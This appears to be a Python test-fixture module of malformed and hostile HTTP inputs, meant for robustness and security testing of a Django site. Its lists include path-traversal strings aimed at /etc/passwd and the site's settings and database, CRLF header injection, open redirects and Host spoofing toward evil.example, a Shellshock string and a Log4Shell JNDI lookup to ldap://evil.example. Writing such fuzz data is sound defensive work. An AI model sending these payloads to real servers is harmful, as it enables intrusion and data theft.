"""What nobody's browser sends and strangers do: named cases, as they stand on the wire."""

LONG = "a" * 8000
MARK = "<b id=x>'\"&"  # never to be read as HTML
QUOTED_MARK = "%3Cb%20id=x%3E%27%22&"

PATHS = {
    "NUL": "/fr/%00/",
    "NUL in a file": "/static/css/%00site.css",
    "NUL in a picture": "/media/pictures/%00.jpg",
    "NUL in an old edition": "/editions/1/fr/%00",
    "NUL in the admin": "/admin/procedures/procedure/%00/change/",
    "overlong UTF-8": "/%c0%af..%c0%afetc/passwd",
    "overlong NUL": "/fr/%c0%80/",
    "invalid UTF-8": "/%ff%fe/%e9",
    "a surrogate": "/fr/%ed%a0%80/",
    "half a percent sign": "/fr/%",
    "no hexadecimal": "/fr/%zz%u0041/",
    "twice encoded": "/%252e%252e/%2500",
    "long": f"/fr/{LONG}/",
    "deep": "/fr" + "/a" * 4000,
    "up from a page": "/fr/" + "../" * 50 + "etc/passwd",
    "up from the files": "/static/%2e%2e/%2e%2e/clinic_site/settings.py",
    "up from the pictures": "/media/pictures/..%2f..%2fdb.sqlite3",
    "up from an old edition": "/editions/1/static/..%2f..%2fcontent/edition.json",
    "backslashes": "/static/..%5c..%5cmanage.py",
    "another host by slashes": "//evil.example/fr",
    "another host by a backslash": "/%5cevil.example/fr",
    "another host as a whole": "http://evil.example/fr/",
    "no slash": "*",
    "a header": "/%0d%0aSet-Cookie:%20a=b",
    "a header where a slash is missing": "/fr/contact%0d%0aLocation:%20x",
    "an element": f"/{QUOTED_MARK}",
    "an element in a query": f"/fr/contact/?a={QUOTED_MARK}",
    "an emoji": "/fr/interventions/%F0%9F%92%A9/",
    "right to left": "/en/%e2%80%ae/",
    "dots": "/fr/./glossaire/../",
    "an edition to come": "/editions/999999999/fr/",
    "no edition": "/editions/0/fr/",
    "an edition beyond integers": "/editions/99999999999999999999/fr/",
    "an edition in other digits": "/editions/%d9%a1/fr/",
    "a draft of nobody": f"/draft/{'a' * 100}/fr/",
    "a draft of colons": "/draft/::::::::::::/fr/",
    "a draft with a time beyond": "/draft/WzFd:zzzzzzzzzzzz:abc/fr/",
    "a row beyond integers": "/admin/contact/enquiry/99999999999999999999/change/",
    "a kind beyond integers": "/admin/r/99999999999999999999/1/",
    "a query of many": "/admin/login/?" + "a=1&" * 30_000,
    "a query of signs": "/admin/login/?next=%00&next=%ff&%=&=&&&",
    "to another host after logging in": "/admin/login/?next=//evil.example/",
    "to a script after logging in": f"/admin/login/?next=javascript:alert(1){QUOTED_MARK}",
    "a query that is no query": "/?" + "%" * 500,
    "a long query": f"/fr/glossaire/?{LONG}",
    "another view": "/fr/?view=%00",
    "a file of a program": "/wp-login.php",
    "a hidden file": "/.git/config",
}

METHODS = ["TRACE", "CONNECT", "OPTIONS", "PUT", "PATCH", "DELETE", "PROPFIND", "get", "FOO" * 50]

CHARSETS = [
    *("utf-16", "utf-32", "utf-7", "rot13", "undefined", "idna", "punycode", "hex", "base64"),
    *("zlib", "bz2", "unicode_escape", "latin-1", "cp037", "mbcs", "none", "", "x" * 300),
    *("utf-8\\", "../../utf-8", "utf-8;charset=rot13", '"', "\xe9"),
]
TYPES = [
    *("", ";", "a", "/", "text/html", "application/json", "multipart/form-data", LONG),
    *("multipart/form-data; boundary=", 'multipart/form-data; boundary="', "multipart/mixed"),
    *(f"multipart/form-data; boundary={'b' * 300}", "multipart/form-data; boundary=\xe9"),
    *("multipart/form-data; boundary*=nonsense''b", "text/plain; charset*=nonsense''b"),
    *("text/plain; charset*=rot13''b", "text/plain; charset*0=ut; charset*1=f-16", "; =; ="),
]

HEADERS = {
    "Host": [
        *("evil.example", "", "testserver:99999999", "testserver:abc", "[::1", "a@testserver"),
        *("testserver, evil.example", LONG, "..", "\xff", "testserver/evil", MARK, "testserver."),
    ],
    "Accept-Language": [
        *("fr;q=abc", "," * 5000, "*;q=1," * 500, "../../etc/passwd", f"fr-{'x-' * 500}", LONG),
        *("en;q=1e999", "\xff\xfe", "fr;q=0.0000000000001", MARK, "zh-hant-xx;q=-1", "fr\tde"),
    ],
    "X-Forwarded-For": ["", "a", f"1.2.3.4, {MARK}", "999.1.1.1", "::" * 100, "fe80::1%eth0", LONG],
    "X-Forwarded-Host": ["evil.example", MARK],
    "X-Forwarded-Proto": ["http, https", "gopher", "", "https\xff"],
    "Range": [
        *("bytes=0-", "bytes=-1", "bytes=9-1", f"bytes={'9' * 5000}-", "bytes=0-0," * 100),
        *("lines=1-2", "bytes=a-b", "bytes", "bytes=--1", "bytes=-99999999999"),
    ],
    "If-Modified-Since": [
        *("yesterday", "0", "Thu, 99 Foo 99999 99:99:99 GMT", "Sun, 06 Nov 0000 08:49:37 GMT"),
        *("Sun, 06 Nov 1994 08:49:37 +99999999999999", "Sun, 06 Nov 99999999999 08:49:37 GMT"),
        *(f"Sun, {'9' * 5000} Nov 1994 08:49:37 GMT", "-1", "\xff"),
    ],
    "If-Unmodified-Since": ["Sun, 06 Nov 99999999999 08:49:37 GMT"],
    "If-None-Match": ['"', "*", 'W/"', "," * 5000, '"' * 5000, "\xff"],
    "If-Match": ['"x"', '"' * 5000],
    "Cookie": [
        *("=;=;=", LONG, '"', "sessionid=\xff", "sessionid=../../etc", f"sessionid={'a' * 4000}"),
        *("sessionid=%00", f"csrftoken={MARK}", "language=../../x", "messages=\xff"),
        *("sessionid=a; " * 200, "csrftoken=" + "a" * 32 + "; csrftoken=b", "\\073=\\"),
    ],
    "Accept-Encoding": ["*", "gzip;q=x", "br," * 1000, "\xff"],
    "Content-Length": ["-1", "abc", "99999999999", "1e9", "+5", "\xb2"],
    "Transfer-Encoding": ["chunked, gzip", "xchunked"],
    "Origin": ["null", "http://[", "https://evil.example", "\xff"],
    "Referer": ["http://[", f"https://testserver/{MARK}", LONG, "\xff"],
    "User-Agent": ["", LONG, "\xff\xfe", MARK, "() { :; }; echo", "${jndi:ldap://evil.example}"],
    "X-HTTP-Method-Override": ["DELETE"],
    "X-CSRFToken": [LONG, "\xff", ""],
    "X-Requested-With": ["XMLHttpRequest"],
    "Authorization": ["Basic \xff", f"Bearer {LONG}"],
    "Content-Type": [*TYPES, *(f"text/plain; charset={charset}" for charset in CHARSETS)],
}
